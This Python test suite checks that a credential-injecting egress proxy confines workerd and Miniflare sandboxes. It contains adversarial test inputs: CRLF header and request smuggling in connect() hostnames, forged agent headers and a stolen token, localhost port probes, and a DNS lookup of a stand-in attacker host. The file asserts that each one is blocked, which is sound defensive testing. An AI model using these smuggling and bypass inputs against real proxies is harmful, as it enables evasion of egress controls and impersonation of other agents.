"""Workers and Dynamic Workers of a real workerd, with examples/workerd as it ships."""

from __future__ import annotations

import asyncio
import json
import re
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from wsproto import ConnectionType, WSConnection
from wsproto.events import AcceptConnection, Request, TextMessage

from tests.clients.sandbox import NODE
from tests.harness import PATIENCE, Proxy, Reply, Upstream, refused, wait_for
from tests.sandboxes.workerd import EXAMPLE, Workerd, package

SECRET = "real-key-7c1f3e9b4a"
RULES = """
version: 1
rules:
  - name: api
    match: {host: api.test, method: [GET, POST], path: /v1/**}
    action: allow
    inject: [{credential: api, as: bearer}]
  - name: old
    match: {host: other.test, method: GET, path: /old/*}
    action: allow
    rewrite: {url: {host: api.test, path: {regex: "^/old/(.*)$", to: '/v1/\\1'}}}
  - name: live
    match: {host: api.test, path: /live, websocket: true}
    action: allow
  - name: plain
    match: {host: api.test, scheme: http, method: GET, path: /plain}
    action: allow
"""
OUTBOUND = "globalOutbound: ctx.exports.Gateway({ props: { agent } }),"
RELAY = """
import { connect } from "cloudflare:sockets";
export default {
  async fetch(request, env, ctx) {
    const socket = connect("TARGET");
    ctx.waitUntil(request.body.pipeTo(socket.writable).catch(() => {}));
    return new Response(socket.readable);
  },
};
"""


def worker(body: str, imports: str = "") -> str:
    """A Worker that answers with what `body` returns, or with the error it throws."""
    return f"""{imports}
export default {{
  async fetch(request, env, ctx) {{
    const job = async () => {{ {body} }};
    return job().catch((error) => new Response(String(error), {{ status: 599 }}));
  }},
}};"""


def get(url: str, init: str = "{}") -> str:
    """A Worker that passes on what it gets."""
    return worker(f"return fetch({json.dumps(url)}, {init});")


@pytest.fixture(scope="module")
def proxy(make_proxy: Callable[..., Proxy], lane: str) -> Proxy:
    proxy = make_proxy(RULES, lane=lane)
    for agent in ("coder-1", "coder-2", "worker-1"):
        proxy.agent(agent)
    proxy.credential("api", SECRET, "--host", "api.test")
    return proxy


@pytest.fixture(scope="module")
def key(proxy: Proxy) -> str:
    """What `sallyport gateway add` printed, as README.md of the example has it."""
    words = ("gateway", "add", "workers", "--agents", "coder-*", "--agents", "worker-*")
    return proxy.cli(*words).stdout.strip()


@pytest.fixture(scope="module")
def workerd(proxy: Proxy, key: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workerd]:
    with Workerd(proxy, key, tmp_path_factory.mktemp("example")) as workerd:
        yield workerd


@pytest.fixture
def changed(proxy: Proxy, key: str, tmp_path: Path) -> Callable[..., Workerd]:
    """The example with some text in its files replaced."""

    def make(**changes: tuple[str, str]) -> Workerd:
        files = {"config": "config.capnp", "host": "host.js", "static": "static.js"}
        return Workerd(proxy, key, tmp_path, {files[name]: change for name, change in changes.items()})

    return make


def asked_for(proxy: Proxy, host: str) -> list[dict[str, Any]]:
    """The exchanges that asked for a host, now that a later one is on record."""
    path = f"/v1/after-{host}"
    proxy.get(f"https://api.test{path}")
    proxy.audit(path=path)
    return [line for line in proxy.audit() if line["host"] == host]


# What a sandbox may do


def test_an_allowed_request_carries_the_credential_that_the_worker_never_sees(
    workerd: Workerd, proxy: Proxy, upstream: Upstream
) -> None:
    answer = workerd.run(get("https://api.test/v1/models"))
    assert answer.status == 200
    assert SECRET not in answer.body.decode()
    assert [(seen.method, seen.target) for seen in upstream.seen] == [("GET", "/v1/models")]
    assert upstream.seen[0].header("authorization") == [f"Bearer {SECRET}"]
    assert upstream.seen[0].header("proxy-authorization") == []
    assert proxy.audit(path="/v1/models")[-1]["identity"] == ["gateway:workers"]


def test_a_body_goes_through_both_ways(workerd: Workerd, upstream: Upstream) -> None:
    answer = workerd.run(get("https://api.test/v1/x", '{method: "POST", body: "z".repeat(300000)}'))
    assert answer.json()["method"] == "POST"
    assert upstream.seen[0].body == b"z" * 300_000


def test_a_request_is_rewritten(workerd: Workerd, upstream: Upstream) -> None:
    assert workerd.run(get("https://other.test/old/models")).status == 200
    assert [(seen.target, seen.header("host")) for seen in upstream.seen] == [("/v1/models", ["api.test"])]


def test_plain_http_goes_where_a_rule_says_so(workerd: Workerd, plain_upstream: Upstream) -> None:
    assert workerd.run(get("http://api.test/plain")).status == 200
    assert [seen.target for seen in plain_upstream.seen] == ["/plain"]


def test_a_refusal_can_be_read(workerd: Workerd, upstream: Upstream) -> None:
    error = refused(workerd.run(get("https://api.test/v2/models")), "no_rule")
    assert error["agent"] == "coder-1"
    assert upstream.seen == []


def test_a_static_worker_is_the_agent_of_its_configuration(changed: Callable[..., Workerd], proxy: Proxy) -> None:
    with changed(static=("https://example.com/", "https://api.test/v1/static")) as workerd:
        assert workerd.static().status == 200
    assert proxy.audit(path="/v1/static")[-1]["agent"] == "worker-1"


def test_a_websocket_works_and_is_cut_when_the_agent_is_killed(
    workerd: Workerd, proxy: Proxy, upstream: Upstream
) -> None:
    heads: list[Request] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        server = WSConnection(ConnectionType.SERVER)
        while data := await reader.read(65536):
            server.receive_data(data)
            for event in server.events():
                if isinstance(event, Request):
                    heads.append(event)
                    writer.write(server.send(AcceptConnection()))
                elif isinstance(event, TextMessage):
                    writer.write(server.send(TextMessage(data=f"heard {event.data}")))
                    proxy.cli("agent", "kill", "coder-2")

    upstream.raw = serve
    code = worker("""
        const headers = { Upgrade: "websocket", "Proxy-Authorization": "Bearer x" };
        const { status, webSocket } = await fetch("https://api.test/live", { headers });
        if (!webSocket) return new Response(null, { status });
        webSocket.accept();
        const said = [];
        const closed = new Promise((end) => ["close", "error"].map((name) => webSocket.addEventListener(name, end)));
        webSocket.addEventListener("message", ({ data }) => said.push(data));
        webSocket.send("hello");
        await closed;
        return Response.json(said);""")
    try:
        assert workerd.run(code, "coder-2").json() == ["heard hello"]
        assert not [name for name, _ in heads[0].extra_headers if name.lower() == b"proxy-authorization"]
        refused(workerd.run(get("https://api.test/v1/x"), "coder-2"), "agent_killed")
    finally:
        proxy.cli("agent", "revive", "coder-2")
    wait_for(lambda: workerd.run(get("https://other.test/"), "coder-2").code == "no_rule", "coder-2 to be alive")


def test_a_killed_agent_is_refused_and_its_neighbour_is_not(workerd: Workerd, proxy: Proxy, upstream: Upstream) -> None:
    proxy.cli("agent", "kill", "coder-1")
    try:
        code = get("https://api.test/v1/x")
        wait_for(lambda: workerd.run(code).status == 403, "the kill to be known")
        upstream.reset()
        refused(workerd.run(code), "agent_killed")
        assert upstream.seen == []
        assert workerd.run(code, "coder-2").status == 200
    finally:
        proxy.cli("agent", "revive", "coder-1")
    wait_for(lambda: workerd.run(code).status == 200, "coder-1 to be alive")


# connect()


def test_a_tunnel_of_connect_is_decided_like_any_other(
    changed: Callable[..., Workerd], proxy: Proxy, upstream: Upstream
) -> None:
    """TLS is made by the sandbox's own code; inside, each request is seen."""
    original = (EXAMPLE / "static.js").read_text()
    head = b"GET %s HTTP/1.1\r\nhost: api.test\r\nconnection: close\r\n\r\n"
    with changed(static=(original, RELAY.replace("TARGET", "api.test:443"))) as workerd:
        allowed = workerd.relay().exchange(proxy.trust, "api.test", head % b"/v1/tunnel")
        blocked = workerd.relay().exchange(proxy.trust, "api.test", head % b"/v2/tunnel")
    assert allowed.startswith(b"HTTP/1.1 200 ")
    assert b'"no_rule"' in blocked
    assert [(seen.target, seen.header("authorization")) for seen in upstream.seen] == [
        ("/v1/tunnel", [f"Bearer {SECRET}"])
    ]
    assert proxy.audit(path="/v1/tunnel")[-1]["agent"] == "worker-1"


def test_a_proxy_on_another_host_is_reached_by_tls(
    make_proxy: Callable[..., Proxy], upstream: Upstream, tmp_path: Path, lane: str
) -> None:
    """With the services that the example's page shows for it, for fetch and connect."""
    proxy = make_proxy(
        RULES.replace("\n    inject: [{credential: api, as: bearer}]", ""),
        lane=lane,
        listen=["tls://127.0.0.1:0"],
        start=False,
    )
    for agent in ("coder-1", "worker-1"):
        proxy.cli("agent", "add", agent)
    key = proxy.cli("gateway", "add", "workers", "--agents", "*").stdout.strip()
    proxy.start()
    (services,) = re.findall(r"```capnp\n(.*?)```", (EXAMPLE / "README.md").read_text(), re.DOTALL)
    config = (EXAMPLE / "config.capnp").read_text()
    plain = "".join(line for line in config.splitlines(True) if '(name = "sallyport' in line and "external" in line)
    static = (EXAMPLE / "static.js").read_text()
    changes = {"config.capnp": (plain, services), "static.js": (static, RELAY.replace("TARGET", "api.test:443"))}
    with Workerd(proxy, key, tmp_path, changes, {"ca.pem": proxy.folder / "certs/ca.pem"}) as workerd:
        assert workerd.run(get("https://api.test/v1/far")).status == 200
        head = b"GET /v1/far HTTP/1.1\r\nhost: api.test\r\nconnection: close\r\n\r\n"
        assert workerd.relay().exchange(proxy.trust, "api.test", head).startswith(b"HTTP/1.1 200 ")
    assert {line["agent"] for line in proxy.audit(2, path="/v1/far")} == {"coder-1", "worker-1"}


CONNECT = 'import { connect } from "cloudflare:sockets";'
TALK = """
    const socket = connect(%s, %s);
    const writer = socket.writable.getWriter();
    await writer.write(new TextEncoder().encode("GET /v1/x HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n"));
    return new Response(socket.readable);"""


@pytest.mark.parametrize(
    ("target", "options"),
    [
        ('"api.test:443"', "{}"),  # no TLS inside
        ('"api.test:80"', "{}"),
        ('"api.test:22"', "{}"),
        ('"127.0.0.1:UPSTREAM"', "{}"),
        ('"[::1]:UPSTREAM"', "{}"),
        ('"127.0.0.1:ADMIN"', "{}"),
        ('"127.0.0.1:PROXY"', "{}"),
        ('"api.test:443"', '{secureTransport: "on"}'),
        ('{hostname: "api.test:443\\r\\nProxy-Authorization: Bearer x\\r\\nx:", port: 1}', "{}"),
        ('{hostname: "api.test HTTP/1.1\\r\\n\\r\\nGET http://api.test/plain HTTP/1.1\\r\\nx: ", port: 443}', "{}"),
    ],
)
def test_connect_to_anything_else_gets_nowhere(
    workerd: Workerd, proxy: Proxy, upstream: Upstream, plain_upstream: Upstream, target: str, options: str
) -> None:
    places = {"UPSTREAM": plain_upstream.port, "ADMIN": proxy.admin.rpartition(":")[2], "PROXY": proxy.address[1]}
    for name, port in places.items():
        target = target.replace(name, str(port))
    answer = workerd.run(worker(TALK % (target, options), CONNECT))
    assert answer.status == 599 or answer.body == b"", answer
    assert upstream.seen + plain_upstream.seen == []
    assert plain_upstream.connections == 0


# What a sandbox may not do

DISGUISES = """
    const names = ["Proxy-Authorization", "proxy-authorization", "Authorization", "Proxy-Connection", "Connection",
        "Cookie", "Forwarded", "X-Forwarded-For", "X-Real-IP", "Via", "Host", "CF-Worker", "CF-Connecting-IP",
        "X-Sallyport-Agent", "Sallyport-Agent", "Transfer-Encoding", "Expect", "TE", "Upgrade-Insecure-Requests"];
    const found = [];
    for (const name of names) {
        for (const value of VALUES) {
            const headers = new Headers();
            try { headers.append(name, value); headers.append(name, "Bearer again"); } catch { continue; }
            const init = { headers, cf: { agent: "coder-2", props: { agent: "coder-2" } } };
            const answer = await fetch("https://api.test/v1/disguise", init).catch(() => null);
            found.push(answer && await answer.text());
        }
    }
    const url = "https://coder-2:TOKEN@api.test/v1/disguise";
    found.push(await fetch(url).then((answer) => answer.text(), String));
    return Response.json(found);"""


def test_no_header_makes_a_worker_speak_as_another_agent(workerd: Workerd, proxy: Proxy) -> None:
    """Even with the other's real token, which it came by somehow."""
    token = proxy.tokens["coder-2"]
    values = json.dumps([f"Bearer {token}", "coder-2", "Basic Y29kZXItMjp4", "agent=coder-2", "keep-alive"])
    before = len(proxy.audit(agent="coder-2"))
    answer = workerd.run(worker(DISGUISES.replace("VALUES", values).replace("TOKEN", token)))
    assert len(answer.json()) > 50
    assert len(proxy.audit(agent="coder-2")) == before
    assert {tuple(line["identity"]) for line in proxy.audit(path="/v1/disguise")} == {("gateway:workers",)}
    assert {line["agent"] for line in proxy.audit(path="/v1/disguise")} == {"coder-1"}


def test_a_worker_finds_nothing_of_its_host(workerd: Workerd, key: str) -> None:
    """No binding, property, export, key or token; and its own exports are no Gateway."""
    code = worker("""
        const { env: mine, exports } = await import("cloudflare:workers");
        const found = [env, mine, ctx.props, Object.keys(exports), Object.keys(ctx.exports), [...request.headers]];
        const forged = await ctx.exports.Gateway?.({ props: { agent: "coder-2" } }).fetch("https://api.test/v1/x");
        return Response.json([...found, forged?.status ?? null, request.url]);""")
    answer = workerd.run(code)
    assert answer.json() == [{}, {}, {}, ["default"], ["default"], [], None, "http://sandbox/"]
    assert key not in answer.body.decode()


WAIT = "await new Promise((end) => { it.onerror = end; it.onopen = end; });"
OTHER_WAYS = {  # to `place`
    "fetch": "await fetch(place);",
    "EventSource": f"const it = new EventSource(place); {WAIT}",
    "WebSocket": f"const it = new WebSocket(place.replace('http', 'ws')); {WAIT}",
    "caches": "await caches.default.put(place, new Response('x')); await caches.default.match(place);",
    "node:http": """
        const http = await import("node:http");
        await new Promise((end) => http.get(place, end).on("error", end));""",
    "node:net": """
        const net = await import("node:net");
        const { hostname, port } = new URL(place);
        await new Promise((end) => net.connect(port, hostname, end).on("error", end).on("close", end));""",
    "node:dns": 'const dns = await import("node:dns/promises"); await dns.resolve4("secret.attacker.test");',
    "redirect": 'await fetch("https://api.test/v1/away");',
}


@pytest.mark.parametrize("way", OTHER_WAYS)
def test_no_api_is_a_way_round(
    changed: Callable[..., Workerd], proxy: Proxy, upstream: Upstream, plain_upstream: Upstream, way: str
) -> None:
    """Also with Node's modules, if a host grants them. The plain upstream listens where a direct way would lead."""
    place = f"http://127.0.0.1:{plain_upstream.port}/"
    upstream.handler = lambda _: Reply(302, [("location", place)])
    with changed(host=(OUTBOUND, f'compatibilityFlags: ["nodejs_compat"], {OUTBOUND}')) as workerd:
        answer = workerd.run(worker(f"const place = {json.dumps(place)}; {OTHER_WAYS[way]} return new Response();"))
    assert answer.status in (200, 599), workerd.said()
    assert plain_upstream.connections == 0
    assert {line["agent"] for line in asked_for(proxy, "127.0.0.1")} <= {"coder-1"}
    assert {line["verdict"] for line in asked_for(proxy, "127.0.0.1")} <= {"block"}


def test_two_agents_on_one_pooled_connection_stay_apart(workerd: Workerd, proxy: Proxy, upstream: Upstream) -> None:
    """The same code, loaded for each, by turns: workerd sends both over one connection."""
    code = get("https://api.test/v1/turns")
    turns = ["coder-1", "coder-2"] * 5
    for agent in turns:
        assert workerd.run(code, agent).status == 200
    lines = proxy.audit(10, path="/v1/turns")
    assert [line["agent"] for line in lines] == turns
    assert len({line["client"] for line in lines}) == 1
    assert len(upstream.seen) == 10


def test_an_agent_that_is_not_registered_is_nobody(workerd: Workerd, upstream: Upstream) -> None:
    for agent in ("coder-9", "other-1", "coder-2%0d%0ax", "", "*"):
        assert refused(workerd.run(get("https://api.test/v1/x"), agent), "bad_identity")["agent"] is None
    assert upstream.seen == []


def test_with_global_outbound_null_nothing_is_sent(changed: Callable[..., Workerd], proxy: Proxy) -> None:
    with changed(host=(OUTBOUND, "globalOutbound: null,")) as workerd:
        assert workerd.run(worker('return fetch("https://null.test/v1/x");')).status == 599
        assert workerd.run(worker(TALK % ('"null.test:443"', "{}"), CONNECT)).status == 599
    assert asked_for(proxy, "null.test") == []


def test_a_worker_that_was_given_no_way_out_is_nobody(changed: Callable[..., Workerd], upstream: Upstream) -> None:
    """Without `globalOutbound` it inherits its host's, which proves nothing, not even with a token it came by."""
    with changed(host=(OUTBOUND, "")) as workerd:
        refused(workerd.run(get("https://api.test/v1/x")), "no_identity")
        stolen = '{headers: {"Proxy-Authorization": "Bearer slp_x"}}'
        refused(workerd.run(get("https://api.test/v1/x", stolen)), "no_identity")
        answer = workerd.run(worker(TALK % ('"api.test:443"', "{}"), CONNECT))
        assert b" 200 " not in answer.body
    assert upstream.seen == []


def test_a_static_worker_without_a_way_out_reaches_nothing(
    changed: Callable[..., Workerd], proxy: Proxy, plain_upstream: Upstream
) -> None:
    """workerd's own default for it is the whole Internet."""
    outbound = (
        'globalOutbound = (name = "host", entrypoint = "Gateway", props = (json = "{\\"agent\\":\\"worker-1\\"}")),'
    )
    place = f"http://127.0.0.1:{plain_upstream.port}/loose"
    with changed(static=("https://example.com/", place), config=(outbound, "")) as workerd:
        assert workerd.static().status == 500
    assert "/loose" not in [line["path"] for line in asked_for(proxy, "127.0.0.1")]
    assert plain_upstream.connections == 0


# Miniflare

MINIFLARE = """
import { HttpOptions_Style, Miniflare } from "miniflare";
const [address, token, path] = process.argv.slice(2);
const mf = new Miniflare({
  modules: true,
  compatibilityDate: "2026-01-01",
  script: `export default { fetch: () => fetch("https://api.test${path}", {
    headers: { "Proxy-Authorization": "Bearer x" } }) };`,
  outboundService: {
    external: {
      address,
      http: {
        style: HttpOptions_Style.PROXY,
        injectRequestHeaders: [{ name: "Proxy-Authorization", value: `Bearer ${token}` }],
      },
    },
  },
});
const answer = await mf.dispatchFetch("http://sandbox/");
console.log(answer.status, await answer.text());
await mf.dispose();
"""


def test_miniflare_has_the_proxy_as_its_outbound_service(proxy: Proxy, upstream: Upstream, tmp_path: Path) -> None:
    script = tmp_path / "sandbox.mjs"
    script.write_text(MINIFLARE)
    (tmp_path / "node_modules").symlink_to(package("miniflare").parent)

    def run(path: str) -> str:
        words = (f"{proxy.address[0]}:{proxy.address[1]}", proxy.tokens["coder-1"], path)
        environment = {
            "HOME": str(tmp_path),
            "MINIFLARE_WORKERD_PATH": str(package("@cloudflare/workerd-*/bin/workerd")),
        }
        done = subprocess.run(
            [NODE, script, *words], env=environment, capture_output=True, text=True, timeout=2 * PATIENCE, check=False
        )
        assert done.returncode == 0, done.stderr
        return done.stdout

    assert run("/v1/miniflare").startswith("200 ")
    assert '"no_rule"' in run("/v2/miniflare")
    assert [(seen.target, seen.header("authorization")) for seen in upstream.seen] == [
        ("/v1/miniflare", [f"Bearer {SECRET}"])
    ]
    assert {line["agent"] for line in proxy.audit(path="/v1/miniflare")} == {"coder-1"}
